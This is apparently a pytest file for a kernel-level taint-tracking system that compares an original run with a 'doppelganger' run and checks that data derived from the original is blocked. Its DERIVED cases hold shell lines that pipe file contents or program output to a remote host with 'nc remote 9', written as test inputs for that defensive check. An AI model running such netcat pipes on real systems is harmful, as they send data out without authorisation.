# SPDX-License-Identifier: GPL-3.0-or-later
"""The two runs make different calls for a while. If only writes differ, they come together again and the program keeps its
doppelganger. Data that only the original wrote is derived. Any other difference taints."""

import pytest

from tests.kernel.guest_run import Case
from tests.kernel.oracle import assert_blocked, assert_innocent

INNOCENT = ["original-writes", "doppelganger-writes", "each-elsewhere", "another-number", "fewer",
            "up-to-the-limit", "asks", "time"]
DERIVED = {
    "file": "apart original-writes > /dev/null; exec nc remote 9 < other",
    "sent": "apart original-sends",
    "piped": "apart original-prints | nc remote 9",
    "length-of-piped": "apart original-prints | wc -c | sed s/4/yes/ | nc remote 9",
}
# Differences other than writes, or too many writes.
TAINTS = ["beyond-the-limit", "forks", "position"]


@pytest.mark.parametrize("case", [Case(name, f"apart {name}") for name in INNOCENT], ids=str)
def test_innocent(case, outcome):
    assert_innocent(outcome, b"constant")


@pytest.mark.parametrize("case", [Case(name, script) for name, script in DERIVED.items()], ids=str)
def test_derived(case, outcome):
    assert_blocked(outcome, nothing_at_all=False)
    assert b"yes" not in outcome.received, outcome.describe()


@pytest.mark.parametrize("case", [Case(name, f"apart {name}") for name in TAINTS], ids=str)
def test_taints(case, outcome):
    assert_blocked(outcome)
    assert outcome.tainted, outcome.describe()


@pytest.mark.parametrize("case", [Case(name, script, labelled=False) for name, script in DERIVED.items()], ids=str)
def test_leaks_without_label(case, outcome):
    assert b"yes" in outcome.received, outcome.describe()
    assert not outcome.questions, outcome.describe()
